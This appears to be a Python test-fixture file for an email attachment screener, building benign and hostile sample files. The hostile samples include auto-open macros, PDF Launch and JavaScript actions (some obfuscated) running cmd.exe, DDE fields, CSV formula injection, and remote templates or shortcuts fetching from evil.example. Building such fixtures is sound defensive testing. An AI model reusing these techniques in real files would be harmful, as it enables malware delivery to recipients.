"""Files by name, with what their bytes are about: programs, macros, what acts, what has a password, and honest ones."""

from __future__ import annotations

import base64
import zlib
from email.message import EmailMessage

from core.sandbox import samples
from mail.screening import filesamples as made

OPENS = 'Sub AutoOpen()\r\nShell "calc"\r\nEnd Sub\r\n'

QUIET = 'Sub Sum()\r\nRange("A1") = 1\r\nEnd Sub\r\n'


def mail(*attached: tuple[str, bytes], declared: str = "application/octet-stream") -> bytes:
    message = EmailMessage()
    message["From"], message["To"], message["Subject"] = "carol@home.example", "bob@city.example", "Plans"
    message.set_content("Please see the files.")
    main, _, sub = declared.partition("/")
    for name, content in attached:
        message.add_attachment(content, maintype=main, subtype=sub, filename=name)
    return message.as_bytes()


def zipped(name: str, content: bytes) -> bytes:
    return samples.zipped({name: content})


PROGRAMS = {
    "setup.exe": made.PROGRAM,
    "x.dll": made.LIBRARY,
    "tool": made.ELF,
    "app": made.MACHO,
    "invoice.lnk": made.SHORTCUT,
    "run.js": b"var x = 1;",
    "run.vbs": b"MsgBox 1",
    "run.wsf": b"<job><script language='JScript'>1</script></job>",
    "run.ps1": b"Get-Date",
    "run.bat": b"@echo off\r\n",
    "run.cmd": b"echo\r\n",
    "run.hta": b"<html><body>x</body></html>",
    "saver.scr": b"\1\2\3\4 no text",
    "x.jar": samples.zipped({"META-INF/MANIFEST.MF": b"M", "A.class": b"\xca\xfe\xba\xbe\0\0\0\x34"}),
    "x.msi": samples.ole({"SummaryInformation": b"x"}),
    "x.reg": b"Windows Registry Editor Version 5.00\r\n",
}

HONEST = {
    "letter.pdf": samples.pdf("words"),
    "form.pdf": made.pdf(b"/OpenAction [3 0 R /Fit]", b"<< /S /URI /URI (https://city.example/) >>"),
    "letter.docx": samples.docx(samples.paragraph("words")),
    "table.xlsx": samples.xlsx("words"),
    "slides.pptx": samples.pptx("words"),
    "letter.odt": samples.opendocument("text", "words"),
    "letter.doc": samples.doc("words"),
    "old.xls": samples.xls("words"),
    "old.ppt": samples.ppt("words"),
    "saved.xls": b"<html><table><tr><td>1</td></tr></table></html>",
    "report.doc": b"{\\rtf1 words}",
    "note.rtf": b"{\\rtf1 words}",
    "note.txt": b"words, and begin 644 nothing",
    "page.html": b"<html><body>The city informs</body></html>",
    "data.csv": b"a,b\n1,2\n",
    "photo.jpg": b"\xff\xd8\xff\xe0" + bytes(50),
    "photo.png": b"\xff\xd8\xff\xe0" + bytes(50),
    "drawing.svg": b"<svg xmlns='http://www.w3.org/2000/svg'><rect/></svg>",
    "event.ics": b"BEGIN:VCALENDAR\r\nEND:VCALENDAR\r\n",
    "files.zip": samples.zipped({"a.txt": b"words", "b/c.pdf": samples.pdf("words")}),
    "files.tar.gz": samples.PACKERS["gz"](samples.tarred({"a.txt": b"words"})),
    "files.7z": samples.seven({"a.txt": b"words"}),
    "patch.diff.bz2": samples.PACKERS["bz2"](b"--- a\n+++ b\n"),
    "item.msg": samples.msg("s", "b", samples.docx(samples.paragraph("words"))),
    "script.py": b"#!/usr/bin/python3\nprint(1)\n",
    "minutes.v2.final.pdf": samples.pdf("words"),
    "example.com": b"a text that is called like a host",
    "empty.exe": b"",
    "sums.csv": b"a;b\r\n1;=SUM(A1:A9)\r\nx | y;-5\r\n",
    "old.slk": b"ID;P\r\nC;X1;Y1;K5\r\nE\r\n",
    "logo.patch": b"From 1 Mon Sep 17\n+<svg onload=x><script>1</script></svg>\n+<html><form>\n",
    "mail.txt": b"He wrote:\n> full address:s:host.example\n> <script>x</script>\n",
    "packed.doc": samples.ole({"WordDocument": b"words", "ObjectPool/\x01Ole10Native": samples.package("a.txt", b"words")}),
    "spec.rtf": b"{\\rtf1 The word \\\\objupdate is written so.{\\object{\\*\\objdata 0105}}}",
    "field.doc": samples.ole({"WordDocument": b"words \x13 PAGE \x14DDE words\x15"}),
    "scan.pdf": b"[attachment was removed]",
}

MACROS = {
    "m.docm": made.docm(OPENS),
    "m.doc": samples.ole(made.project(OPENS, storage="Macros/VBA")),
    "m.xls": samples.ole(made.project(OPENS, storage="_VBA_PROJECT_CUR/VBA")),
    "m.ppt": made.presentation(samples.ole(made.project(OPENS))),
    "x.xls": made.book(("Macro1", 1, 1), opens=True),
    "x.xlsx": samples.zipped({"[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<w/>", "xl/macrosheets/s.xml": "<s/>"}),
    "b.odt": samples.zipped(
        {
            "mimetype": "application/vnd.oasis.opendocument.text",
            "content.xml": "<c/>",
            "Basic/Standard/Module1.xml": "<script:module>Sub Main</script:module>",
        }
    ),
    "w.xml": b"<?xml version='1.0'?><?mso-application progid='Word.Document'?><w:wordDocument w:macrosPresent='yes'/>",
    "m.slk": b"ID;P\r\nO;E\r\nNN;NAuto_open;ER101C1\r\n",
    "editdata.mso": b"ActiveMime".ljust(0x32, b"\0") + zlib.compress(samples.ole(made.project(OPENS))),
}

ACTIVE = {
    "script.pdf": made.pdf(b"/OpenAction << /S /JavaScript /JS (app.alert) >>"),
    "referred.pdf": made.pdf(b"/OpenAction 4 0 R", b"<< /S /JavaScript /JS (app.alert) >>"),
    "named.pdf": made.pdf(b"/Names << /JavaScript << /Names [(a) 4 0 R] >> >>", b"<< /S /JavaScript /JS (x) >>"),
    "spelled.pdf": made.pdf(b"/Open#41ction << /S /J#61vaScript /JS (x) >>"),
    "launch.pdf": made.pdf(b"/OpenAction << /S /Launch /F (cmd.exe) >>"),
    "hex.pdf": made.pdf(b"/OpenAction << /S /Launch /F <636d 642e 657865> >>"),
    "octal.pdf": made.pdf(b"/OpenAction << /S /Launch /F (cmd\\056exe) >>"),
    "where.pdf": made.pdf(b"/OpenAction << /S /Launch /F 77 0 R >>"),
    "stream.pdf": made.pdf(b"/OpenAction 9 0 R", made.object_stream(b"9 0 << /S /JavaScript /JS (x) >>")),
    "page.pdf": made.pdf(b"", b"<< /Type /Page /AA << /O << /S /JavaScript /JS (x) >> >> >>"),
    "odd.pdf": made.pdf(b"", made.object_stream(b"x", b"[/ASCIIHexDecode /FlateDecode]")),
    "carrier.pdf": samples.pdf_with_file("a.exe", made.PROGRAM),
    "template.docx": samples.docx(
        word___rels__settings_dot_xml_dot_rels=made.relations("attachedTemplate", "https://evil.example/t.dotm")
    ),
    "object.docx": samples.docx(
        word___rels__document_dot_xml_dot_rels=made.relations("oleObject", "mhtml:https://evil.example/!x-usc:y")
    ),
    "dde.docx": samples.docx(
        '<w:r><w:fldChar w:fldCharType="begin"/><w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\\\cmd.exe</w:instrText></w:r>'
    ),
    "package.doc": samples.ole({"WordDocument": b"x", "ObjectPool/\x01Ole10Native": samples.package("a.exe", made.PROGRAM)}),
    "link.doc": samples.ole({"WordDocument": b"x", "ObjectPool/\x01Ole10Native": b"K\0\0\0\2\0calc.exe\0C:\\calc.exe\0\0\0\1\0"}),
    "field.doc": samples.ole({"WordDocument": b"words\r\x13 DDEAUTO c:\\cmd.exe \x14x\x15"}),
    "wide.doc": samples.ole({"WordDocument": "\x13DDE c:\\cmd.exe\x14".encode("utf-16-le")}),
    "link.xls": made.book(("A", 0, 0), link="cmd\x03/c calc"),
    "link.xml": b"<?xml version='1.0'?><?mso-application progid='Excel.Sheet'?><SupBook><Path>cmd|/c calc</Path></SupBook>",
    "flat.xml": b"<?xml version='1.0'?><?mso-application progid='Word.Document'?><pkg:part pkg:name=\"/word/a.bin\" pkg:x=\"\">"
    b"<pkg:binaryData>"
    + base64.b64encode(samples.ole({"\x01Ole10Native": samples.package("a.exe", made.PROGRAM)}))
    + b"</pkg:binaryData>",
    "field.xml": b"<?xml version='1.0'?><?mso-application progid='Word.Document'?><w:fldChar w:fldCharType='begin'/>"
    b"<w:instrText>DDEAUTO cmd.exe</w:instrText>",
    "notes.one": made.NOTES,
    "short.url": b"[InternetShortcut]\r\nURL=file://evil.example/x\r\n",
    "disc.iso": made.disc("Invoice.exe", made.PROGRAM),
    "disk.vhd": b"conectix" + bytes(600),
    "object.rtf": b"{\\rtf1{\\object\\objupdate{\\*\\objdata 0105}}}",
    "package.rtf": b"{\\rtf1{\\object{\\*\\objdata 01050000 " + b"Package\0".hex().encode() + b"}}}",
    "cell.csv": b"name,city\r\nann,=cmd|'/C calc'!A0\r\n",
    "query.iqy": b"WEB\r\n1\r\nhttps://evil.example/x\r\n",
    "desk.rdp": b"screen mode id:i:2\r\nfull address:s:evil.example\r\n",
    "template.rtf": b"{\\rtf1{\\*\\template https://evil.example/x}}",
}

LOCKED = {
    "a.zip": made.locked_zip("a.txt", b"x"),
    "a.7z": samples.seven({"a.txt": b"x"}, "secret"),
    "a.rar": made.rar("a.txt", locked=True),
    "n.rar": made.rar("a.txt", names_locked=True),
    "5.rar": made.rar5("a.txt", locked=True),
    "a.docx": samples.ole({"EncryptedPackage": b"x"}),
    "a.doc": samples.doc("words", flags=0x0300),
    "a.xls": samples.xls("words", password=True),
}
